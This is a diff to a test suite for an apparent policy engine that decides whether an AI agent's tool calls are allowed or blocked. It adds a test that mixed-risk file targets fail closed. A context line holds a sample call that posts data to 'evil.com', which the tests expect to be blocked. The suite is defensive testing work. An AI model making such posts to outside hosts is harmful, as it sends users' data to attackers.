@@ -229,6 +229,18 @@ describe('the second attack', () => {
     assert.equal(verdictOf(policy, call(['http.post', 'other', 'evil.com/x', 'send'], more)), 'block');
   });
 
+  test('a riskier target hides no lower risk that fails closed', () => {
+    const policy = policyOf('default_verdict: allow', 'fail_closed: {enabled: true, risk_classes: [medium]}');
+    const targets = [
+      { kind: 'path', value: '/home/u/work/a', operation: 'move' },
+      { kind: 'bucket', value: '/home/u/work/a', operation: 'read' },
+    ];
+    const more = { kind: 'path', value: '/home/u', operation: 'read' };
+    const context = { workspace: '/home/u/work' };
+    for (const all of [targets, [...targets, more]])
+      assert.equal(verdictOf(policy, intentOf({ tool_name: 'tool.read', targets: all, context })), 'block');
+  });
+
   test('what means less than it seems is asked about', () => {
     const codes = (...lines: readonly string[]) =>
       lint(
